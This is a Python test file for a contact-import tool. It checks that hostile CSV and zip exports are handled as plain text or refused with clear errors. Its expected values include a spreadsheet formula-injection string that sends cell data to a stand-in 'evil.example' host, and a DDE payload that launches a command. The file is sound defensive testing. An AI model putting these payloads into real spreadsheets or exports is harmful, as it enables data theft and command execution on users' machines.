"""Hostile and broken files: a clear sentence, nothing interpreted, nothing lost beside them."""

from __future__ import annotations

import shutil
import unicodedata
import zipfile
from pathlib import Path

import msgspec
import pytest

from outreach_tui.errors import OutreachError
from outreach_tui.interop import archives
from outreach_tui.interop.imports import Person
from outreach_tui.interop.reading import read_export

FIXTURES = Path(__file__).parent.parent / "fixtures"
NASTY = FIXTURES / "nasty"


@pytest.fixture(scope="module")
def nasty() -> dict[str, Person]:
    """The people of nasty.csv by the end of their profile address, else by name."""
    people = read_export(NASTY / "nasty.csv").people
    return {person.profile_url.rpartition("/")[2] or person.name: person for person in people}


def texts(person: Person) -> list[str]:
    values = msgspec.structs.astuple(person)
    return [text for value in values for text in (value if isinstance(value, tuple) else [value])]


def test_every_person_in_the_nasty_table_is_taken(nasty: dict[str, Person]) -> None:
    found = read_export(NASTY / "nasty.csv")
    assert len(found.people) == len(nasty) == 49
    assert sorted(p.row for p in found.problems if "taken" not in p.reason) == [25, 26, 50, 56]
    assert "last row" in nasty


def test_no_field_holds_an_invisible_or_commanding_character(nasty: dict[str, Person]) -> None:
    for person in nasty.values():
        for text in texts(person):
            if isinstance(text, str):
                assert not {unicodedata.category(c) for c in text} & {"Cc", "Cf", "Cs", "Zl", "Zp"}
                assert text == text.strip()
                assert len(text) <= 401


@pytest.mark.parametrize(
    ("slug", "field", "text"),
    [
        ("nasty-01", "name", '=HYPERLINK("http://evil.example/?x="&A1,"Click") Formula'),
        ("nasty-02", "title", "-2+3+cmd|' /C calc'!A0"),
        ("nasty-03", "company", "=1+1"),
        ("nasty-05", "name", "Red Wiped"),
        ("nasty-05", "title", "Boss"),
        ("nasty-06", "given", "Jane"),
        ("nasty-06", "company", "Clipboard"),
        ("nasty-07", "name", "C1 CSI"),
        ("nasty-08", "title", "[bold red]Loud[/bold red]"),
        ("nasty-11", "company", "abcdef"),
        ("nasty-12", "name", "ZeroWidth Invisible"),
        ("nasty-17", "name", "NulByte Nul"),
        ("nasty-18", "company", "&lt;b&gt;&amp;amp;"),
        ("nasty-20", "company", "C:\\Windows\\..\\x"),
        ("nasty-21", "name", "Line Break Carriage Return"),
        ("nasty-24", "name", "null None"),
        ("nasty-38", "emails", ("a@b.example",)),
        ("nasty-39", "emails", ("a@b.example", "c@d.example")),
        ("nasty-41", "emails", ()),
        ("priya-raman-77", "name", "Query Url"),
        ("Proto Url", "profile_url", ""),
        ("Host Url", "profile_url", ""),
        ("Pct Url", "profile_url", ""),
    ],
)
def test_content_is_text_and_nothing_more(
    nasty: dict[str, Person], slug: str, field: str, text: object
) -> None:
    assert getattr(nasty[slug], field) == text


def test_a_hostile_archive_gives_its_honest_members_only() -> None:
    before = sorted(NASTY.iterdir())
    found = read_export(NASTY / "nasty.zip")
    assert [p.name for p in found.people] == ["First Copy", "Second Copy"]
    assert sorted(NASTY.iterdir()) == before


@pytest.mark.parametrize(
    ("name", "what", "hint"),
    [
        ("nasty/truncated.zip", "damaged zip archive", "Download it again"),
        ("nasty/not_a_zip.zip", "is a web page", "72 hours"),
        ("nasty/zero_bytes.csv", "zero_bytes.csv is empty", "Download it again"),
        ("nasty/only_bom.csv", "only_bom.csv is empty", "Download it again"),
        ("linkedin/Contacts.csv", "phone book", "in Connections.csv"),
        ("linkedin/PhoneNumbers.csv", "no header row I recognise", "First Name"),
        ("linkedin/nowhere.csv", "There is no file at", "Check the name"),
    ],
)
def test_what_cannot_be_read_is_named_with_a_way_on(name: str, what: str, hint: str) -> None:
    with pytest.raises(OutreachError, match=what) as caught:
        read_export(FIXTURES / name)
    assert hint in caught.value.hint


def test_a_folder_with_nothing_but_an_archive_names_the_archive(tmp_path: Path) -> None:
    shutil.copy(NASTY / "nasty.zip", tmp_path)
    with pytest.raises(OutreachError, match="holds nothing I can read, but another zip") as caught:
        read_export(tmp_path)
    assert "that archive itself" in caught.value.hint


@pytest.mark.parametrize(
    ("content", "what"),
    [
        (b"%PDF-1.7\n", "a PDF"),
        (b'[{"name": "Ana"}]', "JSON"),
        (b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 20, "not a text file"),
        (b"\x00" * 5_000, "nothing but zeros"),
        (b"\xd0\xcf\x11\xe0" + bytes(5_000), "a spreadsheet"),
        (b"\x1f\x8b\x08\x00" + bytes(50), "packed in a way"),
        (b"Just some notes\nof mine, for later\n", "no header row I recognise"),
        (b"PK\x03\x04 but nothing after it", "damaged zip archive"),
        (b'"' * 200_000, "no header row I recognise"),
    ],
)
def test_other_kinds_of_file_are_recognised(tmp_path: Path, content: bytes, what: str) -> None:
    path = tmp_path / "some file.csv"
    path.write_bytes(content)
    with pytest.raises(OutreachError, match=what) as caught:
        read_export(path)
    assert caught.value.message.startswith("some file.csv")
    assert caught.value.hint


def test_a_huge_file_is_refused_by_its_size(tmp_path: Path) -> None:
    path = tmp_path / "Connections.csv"
    with path.open("wb") as file:
        file.truncate(200 * 2**20)
    with pytest.raises(OutreachError, match="more than 64 MB"):
        read_export(path)


def test_a_member_that_swells_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(archives, "LARGEST", 1_000_000)
    path = tmp_path / "export.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("Connections.csv", bytes(2_000_000))
    with pytest.raises(OutreachError, match=r"Connections\.csv holds more than"):
        read_export(path)


@pytest.mark.parametrize(
    ("members", "what"),
    [
        ({"notes.csv": "x"}, "nothing else I can read"),
        ({"messages.csv": "x"}, r"messages\.csv has no header row"),
        ({}, "nothing else I can read"),
        ({"[Content_Types].xml": "", "xl/workbook.xml": ""}, "spreadsheet or document"),
        ({"inner.zip": "PK"}, "another zip archive"),
        ({"Connections.csv": ""}, r"Connections\.csv is empty"),
    ],
)
def test_archives_without_connections_say_so(
    tmp_path: Path, members: dict[str, str], what: str
) -> None:
    path = tmp_path / "some.zip"
    with zipfile.ZipFile(path, "w") as archive:
        for name, text in members.items():
            archive.writestr(name, text)
    with pytest.raises(OutreachError, match=what) as caught:
        read_export(path)
    assert caught.value.hint


def test_an_archive_packed_in_another_way_is_named(tmp_path: Path) -> None:
    path = tmp_path / "some.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_BZIP2) as archive:
        archive.writestr("Connections.csv", "x" * 100)
    with pytest.raises(OutreachError, match="packed in a way I cannot read"):
        read_export(path)


def test_an_archive_with_a_password_is_named(tmp_path: Path) -> None:
    path = tmp_path / "some.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("Connections.csv", "x" * 100)
    data = bytearray(path.read_bytes())
    data[data.index(b"PK\x01\x02") + 8] |= 1
    path.write_bytes(bytes(data))
    with pytest.raises(OutreachError, match="protected with a password"):
        read_export(path)


@pytest.mark.parametrize("path", ["/dev/null", "bad\x00name.csv", "x" * 5_000])
def test_odd_paths_are_refused_with_a_sentence(path: str) -> None:
    with pytest.raises(OutreachError) as caught:
        read_export(Path(path))
    assert caught.value.message.isprintable()
    assert len(caught.value.message) < 400


def test_a_file_that_may_not_be_read_is_named(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "Connections.csv"
    path.write_text("x", encoding="utf-8")

    def refuse(*args: object, **kwargs: object) -> None:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(Path, "open", refuse)
    with pytest.raises(OutreachError, match=r"does not let you read Connections\.csv"):
        read_export(path)
